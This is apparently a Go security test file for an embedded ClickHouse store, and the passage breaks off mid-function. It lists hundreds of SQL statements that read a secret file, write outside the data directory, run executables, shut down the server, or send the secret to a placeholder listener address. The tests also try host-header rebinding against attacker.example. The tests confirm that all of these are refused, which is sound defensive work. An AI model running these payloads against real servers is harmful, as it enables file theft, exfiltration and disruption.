package embedded_test

import (
	"context"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"testing/fstest"
	"testing/synctest"
	"time"

	"pgregory.net/rapid"

	"github.com/fotspor/fotspor/store/embedded"
)

// target is what an attack is after: a secret to read, a directory to write into, files
// of the working directory to take, and a listener to be reached.
type target struct {
	secret, folder string
	work           string // the working directory
	canary         string // in the secret
	listener       net.Listener
	reached        atomic.Int64
}

func newTarget(t *testing.T) *target {
	t.Helper()
	x := &target{secret: filepath.Join(t.TempDir(), "secret.csv"), folder: t.TempDir(), canary: "41729936"}
	must(t, os.WriteFile(x.secret, []byte(x.canary), 0o600))
	x.work = t.TempDir()
	t.Chdir(x.work)
	must(t, os.CopyFS(x.work, workFiles))
	var err error
	x.listener, err = net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	accepting := make(chan struct{})
	go func() {
		defer close(accepting)
		for {
			conn, err := x.listener.Accept()
			if err != nil {
				return
			}
			x.reached.Add(1)
			conn.Close()
		}
	}()
	t.Cleanup(func() {
		x.listener.Close()
		<-accepting
	})
	return x
}

// workFiles are what is in the working directory of an attack.
var workFiles = fstest.MapFS{
	"mydocs/sub/a.txt": {Data: []byte("dear diary"), Mode: 0o600},
	"mydocs/b.csv":     {Data: []byte("41729936\n"), Mode: 0o600},
	"c.csv":            {Data: []byte("41729936\n"), Mode: 0o600},
}

// inWork returns the names and sizes of all files in the working directory of an attack.
func (x *target) inWork() (all []string) {
	filepath.WalkDir(x.work, func(path string, entry fs.DirEntry, err error) error {
		if err == nil && !entry.IsDir() {
			var info fs.FileInfo
			if info, err = entry.Info(); err == nil {
				all = append(all, fmt.Sprintf("%s %d", strings.TrimPrefix(path, x.work), info.Size()))
			}
		}
		if err != nil {
			all = append(all, err.Error())
		}
		return nil
	})
	return all
}

// aim writes the target into an attack.
func (x *target) aim(sql string) string {
	addr := x.listener.Addr().(*net.TCPAddr)
	return strings.NewReplacer("{secret}", x.secret, "{folder}", x.folder, "{addr}", addr.String(), "{port}", fmt.Sprint(addr.Port)).Replace(sql)
}

// check fails the test if the attack did what it was meant to.
func (x *target) check(t testing.TB, what, got string) {
	t.Helper()
	if strings.Contains(got, x.canary) {
		t.Errorf("%s: the secret was read: %s", what, got)
	}
	if left, err := os.ReadDir(x.folder); err != nil || len(left) > 0 {
		t.Errorf("%s: written: %v, %v", what, left, err)
		for _, entry := range left {
			os.RemoveAll(filepath.Join(x.folder, entry.Name()))
		}
	}
	if left := x.inWork(); !slices.Equal(left, []string{"/c.csv 9", "/mydocs/b.csv 9", "/mydocs/sub/a.txt 10"}) {
		t.Errorf("%s: the working directory became %q", what, left)
		os.RemoveAll(x.work)
		os.CopyFS(x.work, workFiles)
	}
	if n := x.reached.Swap(0); n > 0 {
		t.Errorf("%s: %d connections were made", what, n)
	}
}

// attacks read, write or connect. Each stands for a way that had to be closed by
// itself.
var attacks = []string{
	// Table functions with a source.
	"SELECT * FROM file('{secret}', LineAsString)",
	"SELECT * FROM `{secret}`",
	"SELECT * FROM filesystem('{secret}')",
	"SELECT * FROM url('http://{addr}/', CSV, 'a String')",
	"SELECT * FROM urlCluster('default', 'http://{addr}/', CSV, 'a String')",
	"SELECT * FROM s3('http://{addr}/bucket/c', 'a', 'b', CSV, 'a String')",
	"SELECT * FROM azureBlobStorage('http://{addr}/b/c', 'a', 'b', 'c', 'd')",
	"SELECT * FROM remote('127.0.0.1:{port}', system.one)",
	"SELECT * FROM remoteSecure('127.0.0.1:{port}', system.one)",
	"SELECT * FROM mysql('{addr}', 'a', 'b', 'c', 'd')",
	"SELECT * FROM postgresql('{addr}', 'a', 'b', 'c', 'd')",
	"SELECT * FROM mongodb('{addr}', 'a', 'b', 'c', 'd', 'e String')",
	"SELECT * FROM redis('{addr}', 'key', 'key String, v String')",
	"SELECT * FROM sqlite('{folder}/x.db', 'a')",
	"SELECT * FROM hdfs('hdfs://{addr}/a', CSV, 'a String')",
	"SELECT * FROM odbc('DSN=a', 'b', 'c')",
	"SELECT * FROM jdbc('jdbc:a', 'b', 'c')",
	"SELECT * FROM iceberg('http://{addr}/bucket/c', 'a', 'b')",
	"SELECT * FROM deltaLake('http://{addr}/bucket/c', 'a', 'b')",
	"SELECT * FROM icebergLocal('{folder}')",
	"SELECT * FROM executable('x.sh', TSV, 'a String')",
	"SELECT * FROM eval('SELECT file(''{secret}'')')",
	"SELECT * FROM python('a')",
	"DESCRIBE TABLE url('http://{addr}/', 'CSV')",
	"DESCRIBE TABLE url(concat('http://{addr}/', base64Encode(file('{secret}'))), 'CSV')",
	"DESCRIBE TABLE file('{secret}')",
	"SELECT * FROM (SELECT * FROM url('http://{addr}/', CSV, 'a String'))",
	"WITH x AS (SELECT * FROM file('{secret}', LineAsString)) SELECT * FROM x",
	"SELECT 1 WHERE 1 IN (SELECT a FROM file('{secret}', CSV, 'a Int64'))",
	// What is written to.
	"INSERT INTO FUNCTION file('{folder}/a', LineAsString) VALUES ('x')",
	"INSERT INTO FUNCTION file('{folder}/a', LineAsString) SELECT 'x'",
	"INSERT INTO FUNCTION url('http://{addr}/', CSV, 'a String') SELECT 'x'",
	"INSERT INTO FUNCTION remote('127.0.0.1:{port}', default.x) SELECT 1",
	"INSERT INTO TABLE FUNCTION s3('http://{addr}/bucket/c', 'a', 'b', CSV, 'a String') SELECT 'x'",
	"SELECT 1 INTO OUTFILE '{folder}/a'",
	"SELECT 1 INTO\u3000OUTFILE '{folder}/a'",
	"SELECT 1 INTO\u00a0/**/OUTFILE '{folder}/a' APPEND",
	"SELECT ‘'’ INTO OUTFILE '{folder}/a'",
	"INSERT INTO attacked FROM INFILE '{secret}' FORMAT LineAsString",
	"INSERT INTO attacked FROM\u3000INFILE '{secret}' FORMAT LineAsString",
	"BACKUP TABLE attacked TO File('{folder}/b/')",
	"BACKUP TABLE attacked TO Disk('default', 'b/')",
	"BACKUP TABLE attacked TO S3('http://{addr}/bucket/x', 'a', 'b')",
	"BACKUP TABLE attacked TO AzureBlobStorage('http://{addr}/b', 'a', 'b')",
	"BACKUP TABLE attacked TO File('attack/') SETTINGS base_backup = S3('http://{addr}/bucket/x', 'a', 'b')",
	"RESTORE TABLE attacked FROM S3('http://{addr}/bucket/x', 'a', 'b')",
	"RESTORE TABLE attacked FROM File('{folder}/b/')",
	// Tables, databases and dictionaries with a source or a path.
	"CREATE TABLE attacked2 (a String) ENGINE = URL('http://{addr}/', CSV)",
	"CREATE TABLE attacked2 (a String) ENGINE = File(CSV, '{secret}')",
	"CREATE TABLE attacked2 (k String, v String) ENGINE = EmbeddedRocksDB(0, '{folder}/r') PRIMARY KEY k",
	"CREATE TABLE attacked2 (query String) ENGINE = QueryRunner()",
	"CREATE TABLE attacked2 (a String) ENGINE = Executable('x.sh', TSV)",
	"CREATE TABLE attacked2 (a String) ENGINE = FileLog('{folder}', 'CSV')",
	"CREATE TABLE attacked2 (a String) ENGINE = SQLite('{folder}/x.db', 'a')",
	"CREATE TABLE attacked2 (a String) ENGINE = MySQL('{addr}', 'a', 'b', 'c', 'd')",
	"CREATE TABLE attacked2 AS url('http://{addr}/', CSV, 'a String')",
	"CREATE TABLE attacked2 (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = 'local', path = '{folder}/d/')",
	"CREATE TABLE attacked2 (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = 'object_storage', object_storage_type = 'local', metadata_type = 'plain', path = '{folder}/d/')",
	"CREATE TABLE attacked2 (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = 'web', endpoint = 'http://{addr}/')",
	"ALTER TABLE attacked MODIFY SETTING disk = disk(type = 'object_storage', object_storage_type = 'local', metadata_type = 'plain', path = '{folder}/d/')",
	"ATTACH TABLE attacked2 FROM '{folder}' (a String) ENGINE = MergeTree ORDER BY a",
	// What takes a folder of the working directory for a table's, or a file for a table.
	"ATTACH TABLE atomic.attacked2 FROM 'mydocs' (a String) ENGINE = MergeTree ORDER BY a",
	"ATTACH TABLE atomic.attacked2 FROM '.' (a String) ENGINE = MergeTree ORDER BY a",
	"ATTACH TABLE atomic.attacked2 FROM 'mydocs'",
	"ATTACH TABLE IF NOT EXISTS atomic.attacked2 FROM 'mydocs' (a String) ENGINE = Log",
	"ATTACH TABLE atomic.`attacked2` /* */ FROM 'mydocs' (a String) ENGINE = MergeTree ORDER BY a",
	"ATTACH\u3000TABLE atomic.attacked2\u00a0FROM\u3000'mydocs' (a String) ENGINE = MergeTree ORDER BY a",
	"attach table atomic.attacked2 from 'mydocs' (a String) engine = MergeTree order by a",
	"ATTACH TABLE atomic.attacked2 FROM 'mydocs' UUID '00000000-0000-0000-0000-000000000001' (a String) ENGINE = MergeTree ORDER BY a",
	"ATTACH TABLE atomic.attacked2 UUID '00000000-0000-0000-0000-000000000001' FROM 'mydocs' (a String) ENGINE = MergeTree ORDER BY a",
	"ATTACH TABLE atomic.attacked2 UUID '00000000-0000-0000-0000-000000000001' (a String) ENGINE = MergeTree ORDER BY a",
	"DROP TABLE IF EXISTS atomic.none PARALLEL WITH ATTACH TABLE atomic.attacked2 FROM 'mydocs' (a String) ENGINE = MergeTree ORDER BY a",
	"ATTACH MATERIALIZED VIEW atomic.attacked2 (a String) ENGINE = MergeTree ORDER BY a AS SELECT a FROM attacked",
	"ATTACH VIEW atomic.attacked2 AS SELECT 1",
	"ATTACH TABLE atomic.attacked2 AS REPLICATED",
	"ATTACH DATABASE attacked2 UUID '00000000-0000-0000-0000-000000000002' ENGINE = Atomic",
	"ATTACH DATABASE attacked2 ENGINE = Filesystem('mydocs')",
	"ATTACH DICTIONARY atomic.attacked2 (k UInt64, v String) PRIMARY KEY k SOURCE(FILE(path 'c.csv' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)",
	"ALTER TABLE attacked ATTACH PART '../../../../mydocs'",
	"ALTER TABLE attacked ATTACH PARTITION tuple() FROM `c.csv`",
	"ALTER TABLE attacked DROP DETACHED PART '../../../../mydocs' SETTINGS allow_drop_detached = 1",
	"ALTER TABLE attacked FETCH PARTITION tuple() FROM '/mydocs'",
	"ALTER TABLE attacked MOVE PARTITION tuple() TO DISK '{folder}'",
	"ALTER TABLE attacked MOVE PARTITION tuple() TO VOLUME '{folder}'",
	"ALTER TABLE attacked MODIFY SETTING storage_policy = '{folder}'",
	"SYSTEM UNFREEZE WITH NAME '../../mydocs'",
	"CREATE TABLE attacked2 (a String) ENGINE = MergeTree ORDER BY a SETTINGS storage_policy = '{folder}'",
	"CREATE TABLE attacked2 (a String) ENGINE = MergeTree ORDER BY a SETTINGS disk = '{folder}'",
	"CREATE DATABASE attacked2 ENGINE = Atomic SETTINGS disk = disk(type = 'local', path = '{folder}/d/')",
	"CREATE DATABASE attacked2 ENGINE = Filesystem",
	"CREATE DATABASE attacked2 ENGINE = Filesystem('mydocs')",
	"CREATE DATABASE attacked2 ENGINE = Overlay",
	"CREATE DATABASE attacked2 ENGINE = Ordinary",
	"CREATE DATABASE attacked2 ENGINE = Backup('default', File('../../mydocs'))",
	"CREATE DATABASE attacked2 ENGINE = Replicated('/a', 'b', 'c')",
	"CREATE DATABASE attacked2 ENGINE = S3('http://{addr}/bucket/')",
	"BACKUP TABLE attacked TO File('../../../mydocs/x')",
	"RESTORE TABLE attacked FROM File('../../../mydocs')",
	"SELECT * FROM `c.csv`",
	"SELECT * FROM default.`mydocs/b.csv`",
	"DESCRIBE TABLE `c.csv`",
	"CREATE TABLE attacked2 ENGINE = Memory AS `c.csv`",
	"INSERT INTO `c.csv` SELECT 1",
	"INSERT INTO `d.csv` SELECT 1",
	"TRUNCATE TABLE `c.csv`",
	"DROP TABLE `c.csv`",
	"RENAME TABLE `c.csv` TO atomic.attacked2",
	"ALTER TABLE `c.csv` ADD COLUMN b Int8",
	// What the engine can't do without.
	"DROP DATABASE system",
	"DROP DATABASE IF EXISTS system SYNC",
	"DETACH DATABASE system",
	"DETACH DATABASE system PERMANENTLY",
	"RENAME DATABASE system TO attacked2",
	"TRUNCATE DATABASE system",
	"TRUNCATE ALL TABLES FROM system",
	"DROP TABLE system.functions",
	"DETACH TABLE system.tables",
	"RENAME TABLE system.one TO atomic.attacked2",
	"EXCHANGE TABLES system.one AND attacked",
	"CREATE TABLE system.attacked2 (a String) ENGINE = Memory",
	"CREATE VIEW system.attacked2 AS SELECT 1",
	"DROP DATABASE default",
	"DETACH DATABASE default",
	"RENAME DATABASE default TO attacked2",
	"DROP DATABASE information_schema",
	"DROP DATABASE INFORMATION_SCHEMA",
	"DROP VIEW information_schema.tables",
	"CREATE DATABASE attacked2 ENGINE = SQLite('{folder}/x.db')",
	"CREATE DATABASE attacked2 ENGINE = Filesystem('{folder}')",
	"CREATE DATABASE attacked2 ENGINE = MySQL('{addr}', 'a', 'b', 'c')",
	"CREATE DATABASE attacked2 ENGINE = DataLakeCatalog('http://{addr}') SETTINGS warehouse = 'a'",
	"ATTACH DATABASE attacked2 ENGINE = SQLite('{folder}/x.db')",
	"CREATE DICTIONARY attacked2 (k UInt64, v String) PRIMARY KEY k SOURCE(EXECUTABLE(command 'touch {folder}/a' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)",
	"CREATE DICTIONARY attacked2 (k UInt64, v String) PRIMARY KEY k SOURCE(HTTP(url 'http://{addr}/' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)",
	"CREATE DICTIONARY attacked2 (k UInt64, v String) PRIMARY KEY k SOURCE(CLICKHOUSE(QUERY 'SELECT 1, file(''{secret}'')')) LAYOUT(FLAT()) LIFETIME(0)",
	"CREATE NAMED COLLECTION attacked2 AS url = 'http://{addr}/'",
	"CREATE FUNCTION attacked2 AS x -> x",
	// The scalar function, which neither rights nor readonly stop.
	"SELECT file('{secret}')",
	"SELECT length(file('{secret}'))",
	"SELECT /* */ file -- \n ('{secret}')",
	"SELECT file\u3000('{secret}')",
	"SELECT `file`('{secret}')",
	`SELECT "file"('{secret}')`,
	"SELECT “file”('{secret}')",
	`SELECT "f\x69le"('{secret}')`,
	"SELECT `f\\x69le`('{secret}')",
	"SELECT * APPLY(file) FROM (SELECT '{secret}')",
	"SELECT * APPLY file FROM (SELECT '{secret}')",
	"SELECT * APPLY(x -> file(x)) FROM (SELECT '{secret}')",
	"SELECT COLUMNS('.') APPLY(file) FROM (SELECT '{secret}')",
	"SELECT * REPLACE(file(a) AS a) FROM (SELECT '{secret}' AS a)",
	"SELECT arrayMap(file, ['{secret}'])",
	"SELECT arrayMap(x -> file(x), ['{secret}'])",
	"WITH x -> file(x) AS f SELECT f('{secret}')",
	"SELECT 1 FROM (SELECT file('{secret}') AS a) WHERE throwIf(1, a)",
	"SELECT * FROM viewExplain('EXPLAIN', '', (SELECT file('{secret}')))",
	"SELECT * FROM view(SELECT file('{secret}'))",
	"SELECT * FROM values('a String', (file('{secret}')))",
	"SELECT * FROM numbers(length(file('{secret}')))",
	"SELECT 1 LIMIT length(file('{secret}'))",
	"SELECT sum(1) FILTER (WHERE throwIf(1, file('{secret}')))",
	"SELECT 1 UNION ALL SELECT toInt64(file('{secret}'))",
	"SELECT 1 WHERE EXISTS (SELECT file('{secret}'))",
	"WITH (SELECT file('{secret}')) AS x SELECT x",
	"SELECT CAST(file('{secret}') AS String), file('{secret}')::String",
	"SELECT -(-toInt64(file('{secret}')))",
	"SELECT - -toInt64(file('{secret}'))",
	"SELECT encrypt('aes-128-ecb', 'a', file('{secret}'))",
	"DESCRIBE (SELECT file('{secret}'))",
	"EXPLAIN SELECT file('{secret}')",
	"EXPLAIN SYNTAX run_query_tree_passes = 1 SELECT file('{secret}')",
	"EXPLAIN QUERY TREE SELECT file('{secret}')",
	"SELECT * FROM (EXPLAIN SELECT file('{secret}'))",
	"SHOW TABLES FROM system WHERE throwIf(1, file('{secret}'))",
	"SHOW COLUMNS FROM system.one WHERE throwIf(1, file('{secret}'))",
	"KILL QUERY WHERE throwIf(1, file('{secret}'))",
	"CREATE TABLE attacked2 (a String DEFAULT file('{secret}')) ENGINE = Memory",
	"CREATE TABLE attacked2 ENGINE = Memory AS SELECT file('{secret}') AS a",
	"CREATE VIEW attacked2 AS SELECT file('{secret}') AS a",
	"ALTER TABLE attacked ADD COLUMN b String ALIAS file('{secret}')",
	"ALTER TABLE attacked UPDATE a = file('{secret}') WHERE 1",
	"ALTER TABLE attacked DELETE WHERE throwIf(1, file('{secret}')) SETTINGS mutations_sync = 1",
	"DELETE FROM attacked WHERE throwIf(1, file('{secret}'))",
	"INSERT INTO attacked SELECT file('{secret}')",
	"INSERT INTO attacked VALUES (file('{secret}'))",
	"INSERT INTO attacked VALUES ('a'), (concat('b', file('{secret}')))",
	"INSERT\u3000INTO attacked VALUES (file('{secret}'))",
	`INSERT INTO attacked (a, b) VALUES ('\x'||', file(replaceAll('||', '||', '{secret}')))`,
	"INSERT INTO attacked FORMAT Values (file('{secret}'))",
	"INSERT INTO attacked FORMAT values (file('{secret}'))",
	// Expressions inside of a text.
	"SELECT a, b FROM values('a Int8, b String ALIAS file(''{secret}'')', 1)",
	"SELECT a, b FROM values(concat('a Int8, b String ALIAS fi', 'le(''{secret}'')'), 1)",
	"SELECT a, b FROM VALUES('a Int8, b String ALIAS file(''{secret}'')', 1)",
	"SELECT * FROM format(JSONEachRow, 'a String, b String DEFAULT file(''{secret}'')', '{\"a\":\"1\"}')",
	"SELECT a, b FROM generateRandom('a Int8, b String ALIAS file(''{secret}'')') LIMIT 1",
	"INSERT INTO FUNCTION null('a Int8, b Int8 DEFAULT throwIf(1, file(''{secret}''))') (a) VALUES (1)",
	"CREATE TABLE attacked2 AS values('a Int8, b String ALIAS file(''{secret}'')', 1)",
	"SELECT * FROM view(SELECT b FROM values('a Int8, b String ALIAS file(''{secret}'')', 1))",
	"SELECT arrayReduce('groupConcat(file(''{secret}''))', ['a', 'b'])",
	"SELECT arrayReduce(concat('groupConcat(fi', 'le(''{secret}''))'), ['a', 'b'])",
	"SELECT arrayReduceInRanges('groupConcat(file(''{secret}''))', [(1, 2)], ['a', 'b'])",
	"SELECT initializeAggregation('quantile(throwIf(1, file(''{secret}'')))', 1)",
	"SELECT * FROM format(Values, 'a String', $$(file('{secret}'))$$)",
	"SELECT * FROM FORMAT(Values, 'a String', '(''x''), (concat(''a'', file(''{secret}'')))')",
	"INSERT INTO attacked (a) SELECT * FROM format(Values, 'a String', $$(file('{secret}'))$$)",
	"SELECT * FROM format(Values, 'a String', $$(file('{secret}'))$$) SETTINGS input_format_values_interpret_expressions = 1",
	"SELECT * FROM format(Values, 'a String', $$(file('{secret}'))$$) SETTINGS input_format_values_deduce_templates_of_expressions = 1",
	// Settings that name a file, or hold an expression as a text.
	"SELECT 1 FORMAT Template SETTINGS format_template_row = '{secret}', format_template_resultset = '{secret}'",
	"SELECT 1 SETTINGS format_schema = '{secret}:A' FORMAT Protobuf",
	"SELECT 1 SETTINGS format_schema_source = 'query', format_schema = 'SELECT file(''{secret}'')' FORMAT Protobuf",
	"SELECT 1 AS a SETTINGS output_format_schema = '{folder}/a' FORMAT Protobuf",
	"SELECT * FROM format(CSV, 'a Int64', 'x') SETTINGS input_format_allow_errors_num = 1, input_format_record_errors_file_path = '{folder}/a'",
	"SELECT * FROM format(AvroConfluent, 'a String', unhex('000000000100')) SETTINGS format_avro_schema_registry_url = 'http://{addr}'",
	"SELECT 1 AS a SETTINGS additional_result_filter = 'throwIf(1, file(''{secret}''))'",
	"SELECT 1 AS a FROM system.one SETTINGS additional_table_filters = {'system.one': 'throwIf(1, file(''{secret}''))'}",
	"SELECT * FROM eval('SELECT file(''{secret}'')') SETTINGS allow_experimental_eval_table_function = 1",
	// What starts programs or disturbs this one.
	"SELECT * FROM system.models",
	"SELECT * FROM merge('system', 'mod.*')",
	"SELECT * FROM loop('system', 'models')",
	"SELECT catboostEvaluate('{secret}', 1)",
	"SELECT * FROM system.stack_trace",
	"SELECT 1 SETTINGS query_profiler_cpu_time_period_ns = 1000",
	"SYSTEM SHUTDOWN",
	"SYSTEM KILL",
	"SYSTEM ENABLE FAILPOINT dummy_failpoint",
	"CREATE USER attacked2",
	"GRANT ALL ON *.* TO default",
	"EXECUTE AS default SELECT file('{secret}')",
	"SELECT 1; SELECT file('{secret}')",
	"nonsense file('{secret}')",
}

// inURL are attacks whose statement is innocent without the URL around it.
var inURL = []map[string]string{
	{"query": "SELECT arrayMap({f:Identifier}, ['{secret}'])", "param_f": "file"},
	{"query": "SELECT arrayMap({f:Identifier}, ['{secret}'])", "param_f": `f\x69le`},
	{"query": "SELECT * FROM system.{t:Identifier}", "param_t": "models"},
	{"query": "SELECT * FROM {t:Identifier}", "param_t": "system.models"},
	{"query": "SELECT * FROM models", "database": "system"},
	{"query": "SELECT 1 FORMAT Template", "format_template_row": "{secret}", "format_template_resultset": "{secret}"},
	{"query": "SELECT 1 AS a", "additional_result_filter": "throwIf(1, file('{secret}'))"},
	{"query": "SELECT 1 AS a", "default_format": "Protobuf", "output_format_schema": "{folder}/a"},
	{"query": "SELECT * FROM format(Values, 'a String', $$(file('{secret}'))$$)", "input_format_values_interpret_expressions": "1"},
	{"query": "SELECT * FROM format(Values, 'a String', $$(file('{secret}'))$$)", "input_format_values_deduce_templates_of_expressions": "1"},
	{"query": "SELECT * FROM format(Values, 'a String', $$(file('{secret}'))$$)", "compatibility": "19.1"},
	{"query": "SELECT 1", "log_comment": "x"},
	{"query": "print file('{secret}')", "dialect": "kusto", "allow_experimental_kusto_dialect": "1"},
	{"query": "file('{secret}')", "implicit_select": "1"},
	{"query": "SELECT 1", "profile": "default"},
	{"query": "SELECT 1", "role": "x"},
}

// port serves the shared engine on a port and returns its address and the password.
func port(t *testing.T) (addr, password string) {
	t.Helper()
	e := open(t)
	password, err := e.Password()
	must(t, err)
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	ctx, stop := context.WithCancel(t.Context())
	served := make(chan error, 1)
	go func() { served <- e.Serve(ctx, listener) }()
	t.Cleanup(func() {
		http.DefaultClient.CloseIdleConnections()
		stop()
		if err := <-served; err != nil {
			t.Error(err)
		}
	})
	return listener.Addr().String(), password
}

// do sends a request and returns status and body.
func do(t testing.TB, r *http.Request) (int, string) {
	t.Helper()
	resp, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(body)
}

func newRequest(t testing.TB, method, addr string, query url.Values, body string) *http.Request {
	t.Helper()
	r, err := http.NewRequestWithContext(t.Context(), method, "http://"+addr+"/?"+query.Encode(), strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// TestAttacks: no statement reads a file, writes one outside of the data directory,
// makes a connection or starts a program, whoever sends it and by whichever door.
func TestAttacks(t *testing.T) {
	addr, password := port(t)
	e, x := open(t), newTarget(t)
	mustAnswer(t, e, "", "CREATE TABLE attacked (a String, b String DEFAULT '') ENGINE = MergeTree ORDER BY a")
	defer mustAnswer(t, e, "", "DROP TABLE attacked SYNC")
	mustAnswer(t, e, "", "CREATE DATABASE atomic")
	defer mustAnswer(t, e, "", "DROP DATABASE atomic SYNC")
	before := mustAnswer(t, e, "", "SHOW CREATE TABLE attacked")

	insider := func(r *http.Request) { r.SetBasicAuth(embedded.User, password) }
	for name, send := range map[string]func(query url.Values, body string) (int, string){
		"get": func(query url.Values, body string) (int, string) {
			if body != "" {
				query.Set("query", body)
			}
			query.Set("readonly", "0")
			r := newRequest(t, "GET", addr, query, "")
			insider(r)
			return do(t, r)
		},
		"post": func(query url.Values, body string) (int, string) {
			r := newRequest(t, "POST", addr, query, body)
			insider(r)
			return do(t, r)
		},
		"post of the query in the URL": func(query url.Values, body string) (int, string) {
			if body != "" {
				query.Set("query", body)
			}
			r := newRequest(t, "POST", addr, query, "")
			insider(r)
			return do(t, r)
		},
		"read-only": func(query url.Values, body string) (int, string) {
			query["readonly"] = []string{"0", "1", "0"}
			r := newRequest(t, "POST", addr, query, body)
			insider(r)
			return do(t, r)
		},
		"query in the process": func(query url.Values, body string) (int, string) {
			query.Set("readonly", "1")
			if body == "" {
				body = query.Get("query")
				query.Del("query")
			}
			return answer(t, e, query.Encode(), body)
		},
	} {
		t.Run(name, func(t *testing.T) {
			for _, attack := range attacks {
				status, text := send(url.Values{}, x.aim(attack))
				if status == http.StatusOK {
					t.Errorf("%q is allowed: %q", attack, text)
				}
				x.check(t, attack, text)
			}
			for _, attack := range inURL {
				query := url.Values{}
				for key, value := range attack {
					query.Set(key, x.aim(value))
				}
				status, text := send(query, "")
				if status == http.StatusOK {
					t.Errorf("%v is allowed: %q", attack, text)
				}
				x.check(t, fmt.Sprint(attack), text)
			}
		})
	}
	if got := mustAnswer(t, e, "", "SHOW CREATE TABLE attacked"); got != before {
		t.Errorf("the table became %s", got)
	}
	if got := mustAnswer(t, e, "", "SELECT count() FROM attacked"); got != "0\n" {
		t.Errorf("%s rows were written", got)
	}
}

// TestWritesStayInside: names that climb, or name another folder, are taken for names.
func TestWritesStayInside(t *testing.T) {
	e, x := open(t), newTarget(t)
	above, err := os.ReadDir(shared.dir)
	must(t, err)
	for _, sql := range []string{
		"CREATE DATABASE climbing",
		"CREATE TABLE climbing.a (a String) ENGINE = MergeTree ORDER BY a",
		"INSERT INTO climbing.a SELECT 'x'",
		"ALTER TABLE climbing.a FREEZE WITH NAME '../../../x'",
		"ALTER TABLE climbing.a UNFREEZE WITH NAME '../../../x'",
		"RENAME TABLE climbing.a TO climbing.`../../../x`",
		"CREATE TABLE climbing.`../../../y` (a String) ENGINE = Log",
		"CREATE DATABASE `../../../z` ENGINE = Memory",
		"CREATE TABLE `../../../z`.`../../../z` (a String) ENGINE = MergeTree ORDER BY a",
		"DROP DATABASE `../../../z` SYNC",
		// What was detached comes back.
		"DETACH TABLE climbing.`../../../y`",
		"ATTACH TABLE IF NOT EXISTS climbing.`../../../y`",
		"DETACH DATABASE climbing",
		"ATTACH DATABASE climbing",
		"ALTER TABLE climbing.`../../../x` DETACH PARTITION tuple()",
		"ALTER TABLE climbing.`../../../x` ATTACH PARTITION tuple()",
		"DROP DATABASE climbing SYNC",
	} {
		recorder := httptest.NewRecorder()
		e.ServeHTTP(recorder, httptest.NewRequest("POST", "http://localhost/", strings.NewReader(sql)))
		if recorder.Code != http.StatusOK {
			t.Errorf("%s: %d %s", sql, recorder.Code, recorder.Body)
		}
		x.check(t, sql, recorder.Body.String())
	}
	if now, err := os.ReadDir(shared.dir); err != nil || len(now) != len(above) {
		t.Errorf("in the data directory: %v, %v", now, err)
	}
}

// TestDoorRefusesStrangers: without the password, or from a browser even with it,
// nothing is done.
func TestDoorRefusesStrangers(t *testing.T) {
	addr, password := port(t)
	e, x := open(t), newTarget(t)
	mustAnswer(t, e, "", "CREATE TABLE strange (a UInt8) ENGINE = MergeTree ORDER BY a")
	defer mustAnswer(t, e, "", "DROP TABLE strange SYNC")
	insider := func(r *http.Request) { r.SetBasicAuth(embedded.User, password) }
	t.Run("requests", func(t *testing.T) {
		for name, test := range map[string]struct {
			change func(*http.Request)
			status int
			want   string
		}{
			"no password":       {func(*http.Request) {}, 401, "Code: 516."},
			"wrong password":    {func(r *http.Request) { r.SetBasicAuth(embedded.User, password+"x") }, 403, "Code: 516."},
			"wrong user":        {func(r *http.Request) { r.SetBasicAuth("default", password) }, 403, "Code: 516."},
			"no user":           {func(r *http.Request) { r.Header.Set("X-ClickHouse-Key", password) }, 403, "Code: 516."},
			"headers before":    {func(r *http.Request) { insider(r); r.Header.Set("X-ClickHouse-User", "x") }, 403, "Code: 516."},
			"origin":            {func(r *http.Request) { insider(r); r.Header.Set("Origin", "null") }, 403, "web pages"},
			"empty origin":      {func(r *http.Request) { insider(r); r.Header.Set("Origin", "") }, 403, "web pages"},
			"fetched by a page": {func(r *http.Request) { insider(r); r.Header.Set("Sec-Fetch-Site", "cross-site") }, 403, "web pages"},
			"typed in a browser": {func(r *http.Request) {
				insider(r)
				r.Header.Set("Sec-Fetch-Mode", "navigate")
				r.Header.Set("Sec-Fetch-Site", "none")
			}, 403, "web pages"},
			"an unknown fetch": {func(r *http.Request) { insider(r); r.Header.Set("sec-fetch-new", "x") }, 403, "web pages"},
			"rebound name":     {func(r *http.Request) { insider(r); r.Host = "attacker.example:8123" }, 403, "host"},
			"name like an IP":  {func(r *http.Request) { insider(r); r.Host = "127.0.0.1.attacker.example" }, 403, "host"},
			"name like ours":   {func(r *http.Request) { insider(r); r.Host = "localhost.attacker.example" }, 403, "host"},
			"another machine":  {func(r *http.Request) { insider(r); r.Host = "192.0.2.1:8123" }, 403, "host"},
			"unspecified":      {func(r *http.Request) { insider(r); r.Host = "0.0.0.0:8123" }, 403, "host"},
			"user in the URL":  {func(r *http.Request) { r.URL.RawQuery += "&user=fotspor&password=" + password }, 200, ""},
			"headers": {func(r *http.Request) {
				r.Header.Set("X-ClickHouse-User", "fotspor")
				r.Header.Set("X-ClickHouse-Key", password)
			}, 200, ""},
			"basic":              {insider, 200, ""},
			"basic on localhost": {func(r *http.Request) { insider(r); r.Host = "LOCALHOST:1" }, 200, ""},
			"basic on IPv6":      {func(r *http.Request) { insider(r); r.Host = "[::1]:8123" }, 200, ""},
		} {
			t.Run(name, func(t *testing.T) {
				if test.status != 200 {
					t.Parallel() // wrong passwords wait
				}
				for _, r := range []*http.Request{
					newRequest(t, "POST", addr, url.Values{"query": {"INSERT INTO strange VALUES (1)"}}, ""),
					newRequest(t, "POST", addr, url.Values{}, "INSERT INTO strange VALUES (1)"),
				} {
					test.change(r)
